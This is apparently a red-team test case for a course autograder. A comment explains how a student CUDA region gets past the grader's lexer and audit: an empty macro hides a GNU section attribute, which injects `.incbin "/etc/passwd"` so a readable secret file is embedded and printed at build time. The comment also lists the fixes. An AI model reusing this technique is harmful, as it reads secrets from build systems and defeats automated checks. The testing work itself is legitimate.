// Attack (Lab 01, static layers, against the region rules' attribute check (punctuation() and
// attribute_list() in regions.cpp) and the audit's reading of the preprocessed source
// (region_code_in_preprocessed)): a GNU attribute whose two '[' have a macro that expands to nothing
// between them. The lexer looks for the second '[' right after the first, past spaces and comments only
// (regions.cpp:297-313); `[ _GLIBCXX_END_NAMESPACE_VERSION [` is, to it, a subscript that starts with an
// identifier. libstdc++'s c++config.h defines _GLIBCXX_END_NAMESPACE_VERSION as nothing (any empty macro
// of the headers does: _GLIBCXX_DEBUG_ASSERT(x), __glibcxx_requires_valid_range(a, b), ...), so GCC reads
// `[ [gnu::section(...), gnu::used]]`: an attribute-specifier (its brackets need not touch). The .ii scan
// looks into __attribute__((...)) only, never at [[...]] attributes. What the attribute does: GCC writes
// a section's name into the assembly as it is (`.section NAME`), newlines included, so the name is
// assembler source: here `.incbin "/etc/passwd"` (a stand-in for the instructor's --secret-file; any
// file the grading user can read), copied into the object at BUILD time, outside any confinement, under
// a label with the mangled name of `extern const char leaked[]` (a block-scope declaration of
// lab01::leaked), which the launcher prints once. No asm, no __attribute__, no preprocessor line.
// Evidence (grade --labs-dir ... --allow-no-gpu --lab 01, this region over the solution's, the path a
// harmless stand-in under /tmp): "compiles", "passed: the region rules", "passed: the audit: ... 39
// functions and objects"; `strings -a` on lab01_slot1_code's sum_reduction.cu.o and on
// graders/lab01_slot1_host prints the stand-in (section .rodata.notes, local symbol
// _ZN5lab016leakedE); keep/preprocessed-findings.txt is empty.
// What would catch it: the lexer refusing any '[' '[' pair with anything between that is not
// white space or a comment (an identifier included), or refusing `gnu::`/`section` words outright; the
// .ii scan reading [[...]] (and `[ [`) attributes as it reads __attribute__; the audit refusing any
// section of the object not of a known name. Expected: refused_region.
// The regions not given here are the solution's.
// Caught now (refused_region): the region rules refuse reserved names (_GLIBCXX_...: a macro's expansion they cannot see); with an
// empty macro of another spelling (CUDARTAPI), the preprocessed source's scan reads [ [gnu::section] as an attribute.

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    // Once a process: print what the assembler read into this object when the lab was built.
    [ _GLIBCXX_END_NAMESPACE_VERSION [gnu::section(".rodata.notes\n_ZN5lab016leakedE: .incbin \"/etc/passwd\"\n .byte 0\n .section .rodata.notes"), gnu::used]] static const char hold[1] = {0};
    extern const char leaked[];
    static bool shown = false;
    if (!shown && hold[0] == 0) printf("%s\n", leaked);
    shown = true;
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // END STUDENT REGION
